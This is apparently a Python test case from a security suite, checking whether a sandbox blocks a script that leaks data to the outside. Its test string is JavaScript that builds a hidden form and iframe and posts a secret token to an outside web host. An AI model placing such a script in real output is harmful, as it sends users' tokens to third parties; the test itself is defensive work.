"""A script sends a form to the outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const f = document.createElement('form'); f.action = 'http://{WEB}/{ground.token}'; f.method = 'post'; f.target = 'away'; const i = document.createElement('iframe'); i.name = 'away'; document.body.append(i, f); f.submit()"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
